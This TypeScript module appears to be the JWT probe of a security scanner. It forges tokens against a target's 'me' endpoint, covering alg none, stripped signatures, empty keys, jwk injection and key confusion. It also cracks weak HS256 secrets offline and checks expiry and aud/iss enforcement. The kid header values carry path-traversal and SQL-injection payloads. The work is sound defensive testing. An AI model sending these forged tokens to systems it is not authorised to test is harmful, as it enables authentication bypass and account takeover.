/** JWT: forged and tampered tokens against the me route, offline secret cracking, claim policy (exp, lifetime, aud/iss). */
import { formatEvidence } from '../evidence.js';
import { createFinding, type Finding } from '../findings.js';
import type { ProbeResponse } from '../http.js';
import {
  breakSignature,
  type DecodedJwt,
  decodeJwt,
  maskSecret,
  signHs256,
  signKeyConfusion,
  signNone,
  signWithEmbeddedJwk,
} from '../jwt-tokens.js';
import type { NotRun, Probe, ProbeContext } from '../probe.js';
import type { RuleId } from '../rules.js';
import { readBundledSecrets } from '../wordlist/compose.js';

const noneSpellings = ['none', 'None', 'NONE', 'nOnE'];

interface Attempt {
  rule: RuleId;
  label: string;
  token: string;
}

export const jwtProbe: Probe = {
  name: 'jwt',
  description:
    'Signature, alg none, empty key, weak secret, key confusion, jwk/kid injection, expiry, lifetime, aud/iss',
  phase: 'main',
  async run(context) {
    const findings: Finding[] = [];
    const notes: string[] = [];
    const notRun: NotRun[] = [];
    const token = await context.session.login('studentA');
    if (!token)
      return { findings, notes, notRun: [{ check: 'JWT', reason: 'no studentA account to log in with' }] };
    const decoded = decodeJwt(token);
    if (!decoded)
      return { findings, notes, notRun: [{ check: 'JWT', reason: 'the access token is not a JWT' }] };
    const mePath = context.target.auth.mePath;
    const accepted = (response: ProbeResponse) => response.status >= 200 && response.status < 300;
    const baseline = await context.http.send({ method: 'GET', path: mePath, token });
    if (!accepted(baseline))
      return {
        findings,
        notes,
        notRun: [{ check: 'JWT', reason: `a fresh token got HTTP ${baseline.status} from ${mePath}` }],
      };

    const cracked = await context.crackSigningKey();
    if (cracked !== undefined) {
      findings.push(
        createFinding('JWT-WEAK-SECRET', {
          method: 'POST',
          path: baseline.path.replace(mePath, context.target.auth.loginPath),
          detail: `The HS256 secret of a captured access token is in the bundled wordlist: ${maskSecret(cracked)}`,
          evidence: {
            request: `offline: HMAC-${String(decoded.header.alg)} of the captured token's header.payload against ${readBundledSecrets().length} common secrets`,
            response: `signature matched the secret ${maskSecret(cracked)}`,
          },
          confidence: 'certain',
        }),
      );
    }
    const signingKey = await context.getSigningKey();

    const attempts = buildForgedTokens(decoded, token, context.settings.jwtPublicKeyPem);
    for (const attempt of attempts) {
      const response = await context.http.send({ method: 'GET', path: mePath, token: attempt.token });
      if (accepted(response) && !findings.some((f) => f.ruleId === attempt.rule)) {
        findings.push(
          createFinding(attempt.rule, {
            method: 'GET',
            path: response.path,
            detail: `${attempt.label} was accepted (HTTP ${response.status})`,
            evidence: formatEvidence(response, {
              note: `forged token: ${describeToken(attempt.token)}`,
              bodyChars: 200,
            }),
            confidence: 'certain',
          }),
        );
      }
    }
    if (!context.settings.jwtPublicKeyPem)
      notRun.push({ check: 'RS/HS key confusion', reason: 'no public key configured (--jwt-public-key)' });

    findings.push(...checkClaimPolicy(decoded, context, baseline));
    if (signingKey !== undefined) {
      findings.push(...(await checkClaimEnforcement(decoded, signingKey, context)));
    } else {
      const reason =
        'the signing key is unknown (not in the bundled wordlist, --jwt-secret-env not set): no correctly signed test token can be made';
      notRun.push({ check: 'expired token refused', reason }, { check: 'aud/iss enforcement', reason });
    }
    return { findings, notes, notRun };
  },
};

/** Every forged token the probe sends, each tied to the rule it proves when accepted. */
export function buildForgedTokens(
  decoded: DecodedJwt,
  token: string,
  publicKeyPem: string | undefined,
): Attempt[] {
  const { header, payload } = decoded;
  const attempts: Attempt[] = [
    {
      rule: 'JWT-SIGNATURE-NOT-VERIFIED',
      label: 'a token with a altered signature byte',
      token: breakSignature(token),
    },
  ];
  for (const alg of noneSpellings)
    attempts.push({
      rule: 'JWT-ALG-NONE',
      label: `an unsigned token with alg "${alg}"`,
      token: signNone(payload, alg),
    });
  attempts.push({
    rule: 'JWT-NULL-SIGNATURE',
    label: 'the token with its signature removed',
    token: `${decoded.signingInput}.`,
  });
  attempts.push({
    rule: 'JWT-EMPTY-KEY',
    label: 'an HS256 token signed with an empty key',
    token: signHs256(header, payload, ''),
  });
  attempts.push({
    rule: 'JWT-JWK-INJECTION',
    label: 'an RS256 token signed by a key embedded in its jwk header',
    token: signWithEmbeddedJwk(payload),
  });
  const kids: Array<[string, string]> = [
    ['../../../../../../dev/null', ''],
    ['/dev/null', ''],
    ["x' UNION SELECT 'preflight-key' -- ", 'preflight-key'],
    ["0 UNION SELECT 'preflight-key'", 'preflight-key'],
  ];
  for (const [kid, key] of kids) {
    attempts.push({
      rule: 'JWT-KID-INJECTION',
      label: `an HS256 token with kid "${kid}"`,
      token: signHs256({ ...header, kid }, payload, key),
    });
  }
  if (publicKeyPem) {
    for (const forged of signKeyConfusion(header, payload, publicKeyPem)) {
      attempts.push({
        rule: 'JWT-KEY-CONFUSION',
        label: 'an HS256 token keyed with the public key',
        token: forged,
      });
    }
  }
  return attempts;
}

function describeToken(token: string): string {
  const decoded = decodeJwt(token);
  return decoded ? `header ${JSON.stringify(decoded.header).slice(0, 160)}` : 'not a JWT';
}

function checkClaimPolicy(decoded: DecodedJwt, context: ProbeContext, baseline: ProbeResponse): Finding[] {
  const findings: Finding[] = [];
  const { payload } = decoded;
  const loginPath = baseline.path.replace(context.target.auth.mePath, context.target.auth.loginPath);
  const claims = `claims: ${JSON.stringify({ exp: payload.exp, iat: payload.iat, aud: payload.aud, iss: payload.iss, typ: payload.typ })}`;
  const evidence = { request: `POST ${loginPath} (test account)`, response: `access token ${claims}` };
  if (typeof payload.exp !== 'number') {
    findings.push(
      createFinding('JWT-NO-EXPIRY', {
        method: 'POST',
        path: loginPath,
        detail: 'The access token has no exp claim',
        evidence,
        confidence: 'certain',
      }),
    );
  } else {
    const issuedAt = typeof payload.iat === 'number' ? payload.iat : Date.now() / 1000;
    const minutes = (payload.exp - issuedAt) / 60;
    if (minutes > context.settings.maxTokenMinutes + 1) {
      findings.push(
        createFinding('JWT-LIFETIME-EXCESSIVE', {
          method: 'POST',
          path: loginPath,
          detail: `Access tokens live ${Math.round(minutes)} minutes; the policy allows ${context.settings.maxTokenMinutes}`,
          evidence,
          confidence: 'certain',
        }),
      );
    }
  }
  if (payload.aud === undefined || payload.iss === undefined) {
    findings.push(
      createFinding('JWT-AUD-ISS-MISSING', {
        method: 'POST',
        path: loginPath,
        key: 'missing-claims',
        detail: `The access token has no ${[payload.aud === undefined ? 'aud' : '', payload.iss === undefined ? 'iss' : ''].filter(Boolean).join(' or ')} claim`,
        evidence,
        confidence: 'firm',
      }),
    );
  }
  return findings;
}

/** With the signing key known (cracked or given), tokens that differ in one claim show whether the server checks it. */
async function checkClaimEnforcement(
  decoded: DecodedJwt,
  key: string,
  context: ProbeContext,
): Promise<Finding[]> {
  const findings: Finding[] = [];
  const now = Math.floor(Date.now() / 1000);
  const { header, payload } = decoded;
  const mePath = context.target.auth.mePath;
  const expired = signHs256(header, { ...payload, iat: now - 7200, exp: now - 3600 }, key);
  const expiredResponse = await context.http.send({ method: 'GET', path: mePath, token: expired });
  if (expiredResponse.status >= 200 && expiredResponse.status < 300) {
    findings.push(
      createFinding('JWT-EXPIRED-ACCEPTED', {
        method: 'GET',
        path: expiredResponse.path,
        detail: 'A correctly signed token that expired an hour ago was accepted',
        evidence: formatEvidence(expiredResponse, {
          note: 'token re-signed with the known key, exp = now - 3600',
          bodyChars: 200,
        }),
        confidence: 'certain',
      }),
    );
  }
  // a foreign value is tested even when the token has none: a server that ignores aud/iss accepts it either way
  const foreign: Array<[string, Record<string, unknown>]> = [
    ['aud', { ...payload, aud: 'preflight-foreign-audience' }],
    ['iss', { ...payload, iss: 'https://preflight-foreign-issuer.example' }],
  ];
  for (const [claim, forged] of foreign) {
    const response = await context.http.send({
      method: 'GET',
      path: mePath,
      token: signHs256(header, forged, key),
    });
    if (response.status >= 200 && response.status < 300) {
      findings.push(
        createFinding('JWT-AUD-ISS-NOT-ENFORCED', {
          method: 'GET',
          path: response.path,
          key: claim,
          detail: `A token re-signed with the known key and ${claim} "${String(forged[claim])}" (${payload[claim] === undefined ? 'the original has none' : `the original: "${String(payload[claim])}"`}) got HTTP ${response.status}`,
          evidence: formatEvidence(response, {
            note: `token re-signed with the known key, ${claim} changed`,
            bodyChars: 200,
          }),
          confidence: 'certain',
        }),
      );
    }
  }
  return findings;
}
